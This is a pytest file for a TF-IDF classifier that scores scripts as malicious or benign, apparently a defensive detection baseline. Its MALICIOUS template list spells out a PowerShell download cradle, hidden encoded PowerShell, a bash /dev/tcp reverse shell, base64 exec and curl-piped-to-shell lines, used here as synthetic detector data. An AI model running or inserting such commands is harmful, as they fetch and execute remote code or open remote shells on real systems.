"""The TF-IDF baseline learns a toy task, is deterministic, and round-trips through its pickle-free file."""
import numpy as np
import pytest
from sklearn.metrics import roc_auc_score

from pipeline.evaluation.baseline import TfidfBaseline

MALICIOUS = ["IEX (New-Object Net.WebClient).DownloadString('http://{h}/{v}.ps1')",
             "powershell -enc {v}AAAA -w hidden -nop",
             "bash -i >& /dev/tcp/{h}/4444 0>&1",
             "exec(__import__('base64').b64decode('{v}'))",
             "curl http://{h}/{v} | sh"]
BENIGN = ["Get-ChildItem -Path ./{v} | Sort-Object Length",
          "for f in *.txt; do echo \"$f\" >> {v}.log; done",
          "def {v}(items):\n    return sorted(items)",
          "console.log('{v} loaded');\nmodule.exports = {{ {v} }};",
          "Write-Host \"Building {v}\"\nInvoke-Build -Task Test"]


def toy(n: int, seed: int):
    """Scripts built from templates with random names and hosts; the label follows the template family."""
    rng = np.random.default_rng(seed)
    texts, y = [], []
    for i in range(n):
        label = i % 2
        template = (MALICIOUS if label else BENIGN)[rng.integers(5)]
        v = "".join(rng.choice(list("abcdefghijklmnopqrstuvwxyz"), 6))
        h = f"{rng.integers(1, 255)}.{rng.integers(1, 255)}.0.{rng.integers(1, 255)}"
        text = template.format(v=v, h=h)
        if rng.random() < 0.3:
            text += " # ünïcödé x\x00"  # non-ASCII and a trailing NUL in some n-grams: must survive save/load
        texts.append(text)
        y.append(label)
    return texts, np.array(y)


@pytest.fixture(scope="module")
def fitted():
    texts, y = toy(80, 0)
    return TfidfBaseline(max_features=5000).fit(texts, y)


def test_learns_separable_toy_task(fitted):
    texts, y = toy(60, 1)
    p = fitted.predict_proba(texts)
    assert p.shape == (60,) and np.all((p >= 0) & (p <= 1))
    assert roc_auc_score(y, p) > 0.9
    assert p[y == 1].mean() > p[y == 0].mean()  # orientation: P(malicious)


def test_save_load_round_trips_exactly(fitted, tmp_path):
    path = tmp_path / "baseline.npz"
    fitted.save(path)
    with np.load(path, allow_pickle=False) as z:  # the file needs no pickle to read
        assert set(z.files) == {"meta", "idf", "coef", "intercept"}
    loaded = TfidfBaseline.load(path)
    texts, _ = toy(40, 2)
    assert np.array_equal(loaded.predict_proba(texts), fitted.predict_proba(texts))
    assert loaded.params == fitted.params


def test_deterministic(fitted):
    texts, y = toy(80, 0)
    again = TfidfBaseline(max_features=5000).fit(texts, y)
    probe, _ = toy(20, 3)
    assert np.array_equal(again.predict_proba(probe), fitted.predict_proba(probe))


def test_errors_say_what_to_do(tmp_path):
    with pytest.raises(ValueError, match="both 0 .benign. and 1"):
        TfidfBaseline().fit(["a b c", "d e f"], [1, 1])
    with pytest.raises(RuntimeError, match="call fit"):
        TfidfBaseline().predict_proba(["x"])
    bad = tmp_path / "other.npz"
    np.savez(bad, meta=np.array('{"format": "something-else"}'))
    with pytest.raises(ValueError, match="re-fit"):
        TfidfBaseline.load(bad)


def test_numpy_scoring_of_a_saved_baseline_equals_sklearns(fitted, tmp_path):
    """predict serves the ensemble's baseline through SavedBaseline (no sklearn import): its analyzer (char_wb
    n-grams, short words, whitespace runs, case, the max_chars cut), tf-idf weighting and linear model must give
    sklearn's P(malicious), including texts with no known n-gram."""
    from pipeline.evaluation.baseline import SavedBaseline

    path = tmp_path / "baseline.npz"
    fitted.save(path)
    texts, _ = toy(40, 4)
    texts += ["", "   \t\n ", "a", "I", "IEX\t\t(New-Object   Net.WebClient)\r\n\r\nx", "İSTANBUL ǅ ß \u202e ☃ x\x00",
              "zzzz qqqq", "ab " * 5000 + "curl http://h/x | sh", "Get-ChildItem " * 3000]
    saved = SavedBaseline(path)
    assert saved.max_chars < max(len(t) for t in texts)  # the cut is exercised
    np.testing.assert_allclose(saved.predict_proba(texts), fitted.predict_proba(texts), rtol=0, atol=1e-12)


def test_a_damaged_or_missing_saved_baseline_is_named(fitted, tmp_path):
    from pipeline.evaluation.baseline import SavedBaseline

    path = tmp_path / "baseline.npz"
    with pytest.raises(FileNotFoundError, match="baseline.npz is missing"):
        SavedBaseline(path)
    fitted.save(path)
    path.write_bytes(path.read_bytes()[:200])  # a truncated copy
    for load in (SavedBaseline, TfidfBaseline.load):
        with pytest.raises(ValueError, match="baseline.npz is damaged"):
            load(path)
    path.write_bytes(b"\x80\x04K\x01.")  # a pickle, not an archive: refused without advice to unpickle it
    with pytest.raises(ValueError, match="baseline.npz is damaged .not an .npz archive.$"):
        SavedBaseline(path)
